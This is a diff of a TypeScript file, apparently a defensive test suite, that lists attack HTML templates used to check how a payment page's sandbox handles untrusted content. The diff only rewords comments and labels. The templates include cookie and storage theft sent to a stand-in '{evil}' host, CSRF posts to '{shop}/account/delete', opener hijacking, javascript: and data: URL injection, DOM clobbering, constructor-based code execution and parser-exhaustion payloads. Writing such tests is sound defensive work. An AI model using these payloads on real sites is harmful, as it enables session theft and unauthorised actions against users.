@@ -1,20 +1,20 @@
-// Templates that are after the shopper or the shop. `{evil}` stands for the attacker's address, `{shop}` for the shop's.
+// Templates that attack the shopper or the shop. `{evil}` stands for the attacker's address, `{shop}` for the shop's.
 
 export interface Attack {
   readonly what: string;
   readonly html: string;
-  /** It is shown as it came, scripts and all. */
+  /** It is shown unchanged, including its scripts. */
   readonly runs?: true;
 }
 
-/** Runs where scripts may run, and then tells the attacker what it got. */
+/** Runs where scripts may run, and then sends the attacker what it found. */
 const run = (code: string, more = ''): string =>
   `<!doctype html><body>${more}<script>
 var got = []; function say(x) { got.push(String(x)) }
 try { ${code} } catch (e) { say('stopped: ' + e.name) }
 setTimeout(function () { location.href = '{evil}/done?' + encodeURIComponent(got.join('|')) }, 300);
 </script>`;
-/** One plain form, with a script that only submits it. */
+/** One plain form, with a script that does nothing but submit it. */
 const plain = (attributes: string, inside = '', around = ''): string =>
   `<!doctype html><body>${around}<form name="f" method="post" ${attributes}><input type="hidden" name="MD" value="1">${inside}</form><script>document.f.submit()</script>`;
 const toEvil = 'action="{evil}/done"';
@@ -26,7 +26,7 @@ const scripted = (what: string, code: string, more?: string): Attack => ({
 });
 
 export const ATTACKS: readonly Attack[] = [
-  // After what the shop's origin keeps.
+  // Attacks on what the shop's origin stores.
   scripted('reads the cookies', 'say(document.cookie)'),
   scripted('reads the storage', 'say(localStorage.getItem("secret"))'),
   scripted('reads the storage of the session', 'say(sessionStorage.getItem("secret"))'),
@@ -35,11 +35,11 @@ export const ATTACKS: readonly Attack[] = [
   scripted('sets a cookie', 'document.cookie = "session=evil; path=/"'),
   scripted('plants a worker', 'navigator.serviceWorker.register("{shop}/sw.js").then(say, say)'),
   scripted('widens its domain', 'document.domain = "localhost"; say(document.cookie)'),
-  // After the shop's tab.
+  // Attacks on the shop's tab.
   scripted('steers the opener', 'opener.location.href = "{evil}/stolen"'),
   scripted('reads the opener', 'say(opener.document.getElementById("pan").value)'),
   scripted('speaks to the opener', 'opener.postMessage({ type: "returned" }, "*")'),
-  scripted('finds the opener by its name', 'window.open("{evil}/stolen", "shop-tab")'),
+  scripted('finds the opener by name', 'window.open("{evil}/stolen", "shop-tab")'),
   {
     what: 'posts a form into the shop’s tab',
     html: `<form name=a></form>${plain(`action="{evil}/stolen" target="shop-tab"`)}<script>void fetch; setTimeout(function(){location.href='{evil}/done'},300)</script>`,
@@ -48,20 +48,20 @@ export const ATTACKS: readonly Attack[] = [
   scripted('steers the parent', 'parent.location.href = "javascript:alert(1)"'),
   scripted('steers the top', 'top.location.href = "javascript:void(opener && opener.postMessage(document.cookie))"'),
   scripted(
-    'goes back to our page and looks',
+    'goes back to our page and reads it',
     'history.back(); say(document.documentElement.innerHTML.indexOf("eximpe-page"))',
   ),
   scripted(
-    'speaks on our channel',
+    'sends messages on our channel',
     'new BroadcastChannel("eximpe-attempt-0f8fad5b-d9cb-469f-a165-70867728950e").postMessage({ type: "returned" }); say("said")',
   ),
-  // After the shop's pages.
+  // Attacks on the shop's pages.
   scripted(
-    'asks for the account',
+    'fetches the account',
     'fetch("{shop}/account", { credentials: "include" }).then(function (r) { return r.text() }).then(say, say)',
   ),
   scripted(
-    'asks for it without answer',
+    'fetches the account with no-cors',
     'fetch("{shop}/account", { credentials: "include", mode: "no-cors" }).then(say, say)',
   ),
   scripted(
@@ -69,11 +69,11 @@ export const ATTACKS: readonly Attack[] = [
     'fetch("{shop}/account/delete", { method: "POST", credentials: "include", mode: "no-cors" }).then(say, say)',
   ),
   scripted(
-    'posts as the shopper, the old way',
+    'posts as the shopper, by XMLHttpRequest',
     'var x = new XMLHttpRequest(); x.open("POST", "{shop}/account/delete"); x.withCredentials = true; x.send()',
   ),
   scripted(
-    'posts a form that it builds to the shop',
+    'builds a form and posts it to the shop',
     'var f = document.createElement("form"); f.method = "post"; f.action = "{shop}/account/delete"; document.body.append(f); f.submit()',
   ),
   scripted('sends a beacon', 'say(navigator.sendBeacon("{shop}/account/delete", "x"))'),
@@ -92,14 +92,14 @@ export const ATTACKS: readonly Attack[] = [
   ),
   scripted('makes code of text', 'say(new Function("return document.cookie + localStorage.getItem(\'secret\')")())'),
   scripted('has its opener make code of text', 'opener.eval("window.hacked = 1")'),
-  scripted('sends a script to the opener by its name', 'window.open("javascript:window.hacked=1", "shop-tab")'),
-  scripted('writes into the opener by its name', 'window.open("", "shop-tab").document.write("<p>Paid</p>")'),
+  scripted('sends a script to the opener by name', 'window.open("javascript:window.hacked=1", "shop-tab")'),
+  scripted('writes into the opener by name', 'window.open("", "shop-tab").document.write("<p>Paid</p>")'),
   scripted(
-    'reads where its window has been',
+    'reads the history of its window',
     'say(JSON.stringify(navigation.entries().map(function (e) { return e.url })))',
   ),
   scripted(
-    'asks for our page of its launch',
+    'fetches our launch page',
     'fetch(location.href.replace("/template", ""), { credentials: "include" }).then(function (r) { return r.text() }).then(say, say)',
   ),
   scripted(
@@ -110,14 +110,14 @@ export const ATTACKS: readonly Attack[] = [
   scripted('loads a picture of the account', 'new Image().src = "{shop}/account/delete"'),
   { what: 'posts to the shop in several forms', html: `<form></form>${plain('action="{shop}/account/delete"')}` },
   { what: 'posts to the shop', html: plain('action="{shop}/account/delete"') },
-  { what: 'posts to the shop by a base', html: plain('action="account/delete"', '', '<base href="{shop}/">') },
-  { what: 'posts to the shop behind a user', html: plain('action="http://user@localhost/account/delete"') },
+  { what: 'posts to the shop by a base element', html: plain('action="account/delete"', '', '<base href="{shop}/">') },
+  { what: 'posts to the shop with a user name', html: plain('action="http://user@localhost/account/delete"') },
   {
-    what: 'posts to the shop by a button’s address',
+    what: 'posts to the shop by a button’s formaction',
     html: `<form method=post ${toEvil}><button id=b name=x formaction="{shop}/account/delete">go</button></form><script>document.getElementById('b').click()</script>`,
   },
   {
-    what: 'posts to the shop by a field called action',
+    what: 'posts to the shop by a field named action',
     html: plain('', '<input name="action" value="{shop}/account/delete">'),
   },
   { what: 'redirects to the shop', html: '<meta http-equiv="refresh" content="0;url={shop}/account/delete">' },
@@ -126,30 +126,30 @@ export const ATTACKS: readonly Attack[] = [
     html: '<meta http-equiv="refresh" content="0;url=javascript:opener.hacked=1">',
   },
   {
-    what: 'looks at the browser by way of the shop',
+    what: 'does its device check by posting to the shop',
     html: `<iframe name=look hidden></iframe><form name=m action="{shop}/account/delete" method=post target=look></form>${plain(toEvil).replace('<script>', '<script>document.m.submit();')}`,
   },
-  // After our own page.
+  // Attacks on our own page.
   { what: 'posts to a script', html: plain('action="javascript:alert(document.domain)"') },
-  { what: 'posts to a script in disguise', html: plain('action="&#1;java&#9;script:alert(document.domain)"') },
+  { what: 'posts to a disguised script', html: plain('action="&#1;java&#9;script:alert(document.domain)"') },
   { what: 'posts to a document of its own', html: plain('action="data:text/html,<script>opener.hacked=1</script>"') },
   {
-    what: 'breaks out of our data',
+    what: 'breaks out of our data element',
     html: `</script><script>opener && (opener.hacked = 1); window.hacked = 1</script>\u2028\u2029<!--<script>-->${plain(toEvil)}`,
   },
   {
-    what: 'takes the place of our data',
+    what: 'takes the place of our data element',
     html: plain(toEvil, '', '<div id="eximpe-page">{"page":"launch","template":"x"}</div>'),
   },
   {
-    what: 'handlers that fire while being read',
+    what: 'handlers that fire while the page is parsed',
     html: plain(
       toEvil,
       '<input autofocus onfocus="window.hacked=1"><img src="x" onerror="window.hacked=1"><svg onload="window.hacked=1"></svg>',
     ),
   },
   {
-    what: 'names that stand in the reader’s way',
+    what: 'names that shadow DOM properties',
     html: plain(
       `${toEvil} id="documentElement"`,
       '<input name="attributes"><input name="getAttribute"><input name="elements"><input name="nodeName"><input name="parentNode"><input name="__proto__" value="x"><input name="constructor">',
@@ -158,18 +158,18 @@ export const ATTACKS: readonly Attack[] = [
   },
   ...[
     ['constructors', 'document.f.submit.constructor("window.hacked=1")()'],
-    ['a constructor out of the air', 'constructor.constructor("window.hacked=1")()'],
+    ['a global constructor', 'constructor.constructor("window.hacked=1")()'],
     ['prototypes', '__proto__.constructor("x"); "x".constructor.constructor("window.hacked=1")()'],
     ['getters', '__defineGetter__("x", function(){ return 1 }); toString(); valueOf()'],
-    ['a timer with text', 'setTimeout("window.hacked=1;document.f.submit()", 0)'],
-    ['a call on a stranger', 'document.f.submit.call.call(alert, window)'],
+    ['a timer with code as text', 'setTimeout("window.hacked=1;document.f.submit()", 0)'],
+    ['a call on another function', 'document.f.submit.call.call(alert, window)'],
   ].map(([what, code]) => ({
-    what: `leads the follower of scripts to ${what}`,
+    what: `leads the script interpreter to ${what}`,
     html: plain(toEvil).replace('<script>', `<script>try { ${code} } catch (e) {} `),
   })),
-  { what: 'markup without an end', html: `${'<div>'.repeat(20_000)}${plain(toEvil)}` },
+  { what: 'deeply nested markup', html: `${'<div>'.repeat(20_000)}${plain(toEvil)}` },
   {
-    what: 'a script without an end',
+    what: 'a deeply nested script',
     html: plain(toEvil)
       .replace('<script>', `<script>${'('.repeat(50_000)}`)
       .concat(`<script>setTimeout(function(){location.href='{evil}/done'},300)</script>`),
